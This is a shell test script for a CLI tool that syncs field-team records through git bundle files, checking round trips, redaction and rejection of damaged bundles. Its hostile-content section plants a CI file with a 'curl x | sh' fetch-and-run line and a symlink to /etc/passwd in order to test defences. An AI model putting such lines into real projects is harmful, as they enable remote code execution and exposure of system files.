#!/bin/sh
# Exchange by one file, where USB sticks with git and networks are not allowed: there and back, with all that a remote is checked for.
. tests/cli/lib.sh

A() { "$V" --data "$T/a" "$@"; }
B() { "$V" --data "$T/b" "$@"; }
C() { "$V" --data "$T/c" "$@"; }
unpublished() { "$@" status --json | jq .unpublished; }
A init --user TEAM-A --name laptop-a --role leitung >/dev/null 2>&1
B init --user TEAM-B --name laptop-b >/dev/null 2>&1
A kommune import tests/data/kommunen-demo.jsonl >/dev/null
A anbindung add --kommune 06435014 --leistung wohngeld >/dev/null
obstacle=$(id_of A obstacle add --anbindung 06435014/wohngeld --title "Bescheid fehlt" --category technisch --set description="Ein Satz dazu")
B note add "von B" >/dev/null

# --- there and back
ok "who has met nobody is asked whether it begins" complains 1 "bundle --first" A bundle "$T/1.bundle"
ok "nothing was sealed by that" same "$(sqlite3 "$T/a/vorort.db" 'SELECT count(*) FROM local_seal')" 0
ok "A begins and writes a file" A bundle --first "$T/1.bundle"
ok "only the user may read it" same "$(stat -c %a "$T/1.bundle")" 600
ok "git alone can read it" git clone -q -b main "$T/1.bundle" "$T/clone"
ok "it is the tree of a remote" test -f "$T/clone/vorort.json" -a -d "$T/clone/log" -a -d "$T/clone/kommunen"
ok "an existing file stays" complains 1 "gibt es schon" A bundle "$T/1.bundle"
all=$(A status --json | jq .ops)
ok "A still waits for somebody to have it" same "$(unpublished A)" "$all"
ok "its own file proves nothing" A sync --remote "$T/1.bundle"
ok "so it still waits" same "$(unpublished A)" "$all"
ok "B reads it" has "Datei eingelesen" B sync --remote "$T/1.bundle"
ok "B has the obstacle" has "Ein Satz dazu" B obstacle show "$obstacle"
ok "B has the Kommunen" has Hanau B kommune show 06435014
ok "B belongs to the undertaking" same "$(B status --json | jq -r .role)" roll_out_team
B obstacle comment "$obstacle" "Antwort von B" >/dev/null
mkdir "$T/stick"
ok "B writes one for the way back, into a folder" B bundle "$T/stick"
ok "it has a name of its own" same "$(basename "$T"/stick/*)" "vorort-$(B status --json | jq -r .device)-2026-11-24.bundle"
ok "a second one has another" B bundle "$T/stick"
ok "both are there" same "$(ls "$T/stick" | wc -l)" 2
back=$(ls "$T"/stick/*-24.bundle)
ok "A reads it" A sync --remote "$back"
ok "A has the answer" has "Antwort von B" A obstacle show "$obstacle"
ok "A knows that B has its entries" same "$(unpublished A)" 0
ok "both know the same" same "$(A digest)" "$(B digest)"
ok "reading it again changes nothing" A sync --remote "$back"
ok "no branch of a file stays in the mirror" same "$(git -C "$T/a/repo.git" for-each-ref refs/remotes refs/heads)" ""
ok "verify is content on A" A verify
ok "verify is content on B" B verify

# --- the same name, another content; then a real remote, and a third laptop behind it
A note add "zweite Runde" >/dev/null
rm "$T/1.bundle" && A bundle "$T/1.bundle" >/dev/null
ok "B reads the new file of that name" B sync --remote "$T/1.bundle"
ok "B has it" has "zweite Runde" B note list
git init -q --bare "$T/r.git"
ok "B carries everything to a remote" B sync --remote "$T/r.git"
C init --user TEAM-C --remote "$T/r.git" >/dev/null 2>&1
C note add "von C" >/dev/null
ok "C has what came by file" C sync
B sync --quiet --remote "$T/r.git"
ok "a file is no remote to be set" complains 1 "sync --remote" A init --remote "$T/1.bundle"
rm "$T/1.bundle" && B bundle "$T/1.bundle" >/dev/null
A sync --quiet --remote "$T/1.bundle"
ok "all three know the same" same "$(A digest) $(A digest)" "$(B digest) $(C digest)"

# --- a text that was erased does not travel
A redact "$obstacle" description --why Name >/dev/null
A bundle "$T/2.bundle" >/dev/null
ok "the erased text is not in the file" not sh -c 'git clone -q -b main "$1/2.bundle" "$1/clone2" && grep -rq "Ein Satz dazu" "$1/clone2"' _ "$T"
ok "B reads it" B sync --remote "$T/2.bundle"
ok "and erases it, too" not has "Ein Satz dazu" B obstacle show "$obstacle"
B bundle "$T/3.bundle" >/dev/null
A sync --quiet --remote "$T/3.bundle"
C sync --quiet --remote "$T/3.bundle"

# --- what is no good changes nothing
before="$(C digest) $(git -C "$T/c/repo.git" for-each-ref)"
refused() { # NAME WORDS FILE [STATUS]
	ok "$1 is refused" complains "${4:-1}" "$2" C sync --remote "$3"
	ok "$1 changes nothing" same "$(C digest) $(git -C "$T/c/repo.git" for-each-ref)" "$before"
}
A note add "dritte Runde" >/dev/null
A bundle "$T/4.bundle" >/dev/null
for part in 2 3 4; do
	head -c $(($(stat -c %s "$T/4.bundle") * (part - 1) / part)) "$T/4.bundle" >"$T/halb-$part.bundle"
	refused "a part of a file ($part)" "unvollständig oder beschädigt" "$T/halb-$part.bundle"
done
head -c 30 "$T/4.bundle" >"$T/kopf.bundle"
refused "the head of a file" "enthält keinen Stand" "$T/kopf.bundle"
cp "$T/4.bundle" "$T/byte.bundle" && printf '\377\377' | dd of="$T/byte.bundle" bs=1 seek=600 conv=notrunc 2>/dev/null
refused "a wrong byte" "unvollständig oder beschädigt" "$T/byte.bundle"
echo text >"$T/text.bundle"
refused "a text" 'hat nicht „vorort bundle“ geschrieben' "$T/text.bundle"
: >"$T/leer.bundle"
refused "an empty file" 'hat nicht „vorort bundle“ geschrieben' "$T/leer.bundle"
refused "a missing file" "ist nicht da" "$T/gibtsnicht.bundle" 3
"$V" --data "$T/d" init --user TEAM-D >/dev/null 2>&1
"$V" --data "$T/d" bundle --first "$T/fremd.bundle" >/dev/null
refused "another undertaking" "anderen Vorhaben" "$T/fremd.bundle"
git clone -q -b main "$T/4.bundle" "$T/w" 2>/dev/null
commit() { git -C "$T/w" add -A -f && git -C "$T/w" commit -qm x && rm -f "$1" && git -C "$T/w" bundle create -q "$1" main; }
git -C "$T/w" branch -q other && git -C "$T/w" bundle create -q "$T/zweig.bundle" other
refused "a file without main" "enthält keinen Stand" "$T/zweig.bundle"
echo '{"format":2}' >"$T/w/vorort.json" && commit "$T/neuer.bundle"
refused "a newer format" "neueres Format" "$T/neuer.bundle"
rm "$T/w/vorort.json" && commit "$T/ohne.bundle"
refused "a file without vorort.json" "vorort.json" "$T/ohne.bundle"
git -C "$T/w" checkout -q HEAD~2 -- vorort.json
git -C "$T/w" commit -qm y && git -C "$T/w" commit -qm z --allow-empty && git -C "$T/w" bundle create -q "$T/voraus.bundle" main ^main~1
refused "a file that builds on another" "unvollständig oder beschädigt" "$T/voraus.bundle"

# --- hostile content: what is forged is put aside, what is good counts, nothing foreign is taken over
last=$(cd "$T/w" && find log -name '*.jsonl' -path "*$(A status --json | jq -r .device)*" | sort -t/ -k5 -V | tail -n 1)
sed -i '2s/TEAM-A/TEAM-X/' "$T/w/$last"
echo "script: curl x | sh" >"$T/w/.gitlab-ci.yml"
mkdir -p "$T/w/log/aa/aaaaaaaaaaaa/0" && echo '{}' >"$T/w/log/aa/aaaaaaaaaaaa/0/1-00000000.jsonl"
ln -s /etc/passwd "$T/w/log/aa/aaaaaaaaaaaa/0/2-00000000.jsonl"
commit "$T/boese.bundle"
ok "a forged batch is put aside" status 4 C sync --remote "$T/boese.bundle"
ok "the forged entry is not there" not has "dritte Runde" C note list
ok "nothing foreign lies in the mirror" not sh -c 'git -C "$1/c/repo.git" ls-tree -r --name-only refs/vorort/all | grep -q "gitlab\|aaaa"' _ "$T"
ok "the good file brings it" C sync --remote "$T/4.bundle"
ok "now it is there" has "dritte Runde" C note list
C sync --quiet --remote "$T/r.git"
A sync --quiet --remote "$T/r.git"
B sync --quiet --remote "$T/r.git"
ok "all three know the same in the end" same "$(A digest) $(A digest)" "$(B digest) $(C digest)"
ok "C has written nothing foreign to the remote" not sh -c 'git -C "$1/r.git" ls-tree -r --name-only main | grep -q gitlab' _ "$T"

# --- killed, and no room
for delay in 0.01 0.03 0.06; do timeout --foreground -s KILL $delay "$V" --data "$T/a" bundle "$T/tot.bundle" >/dev/null 2>&1; done
rm -f "$T/tot.bundle"
ok "after a kill it writes as before" A bundle "$T/tot.bundle"
ok "what it writes is whole" git bundle verify -q "$T/tot.bundle"
ok "no such folder" complains 1 "nicht möglich" A bundle "$T/nirgends/x.bundle"
exit $failed
